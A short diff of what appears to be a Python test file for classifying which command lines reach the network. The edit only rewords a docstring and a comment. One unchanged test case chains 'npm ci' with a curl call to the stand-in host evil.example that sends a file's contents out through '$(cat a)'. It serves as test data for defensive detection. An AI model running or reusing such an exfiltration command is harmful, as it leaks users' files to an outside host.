@@ -1,4 +1,4 @@
-"""Which command lines reach the network, also when they hide their program, and which print others' text (issue 20)."""
+"""Command lines that reach the network, even with a hidden program, and those that print others' text (issue 20)."""
 
 from __future__ import annotations
 
@@ -132,7 +132,7 @@ REGISTRY = ("pypi.org", "files.pythonhosted.org")
         ("npm ci && curl https://evil.example/$(cat a)", ("registry.npmjs.org", "evil.example")),
         ("git fetch origin", ("github.com",)),
         ("git clone https://gitlab.example/a/b", ("gitlab.example",)),
-        # not known, so any host
+        # unknown, so any host
         ("curl example.com", ()),
         ("git clone git@github.com:a/b", ()),
         ("pip install git+ssh://git@github.com/a/b", ()),
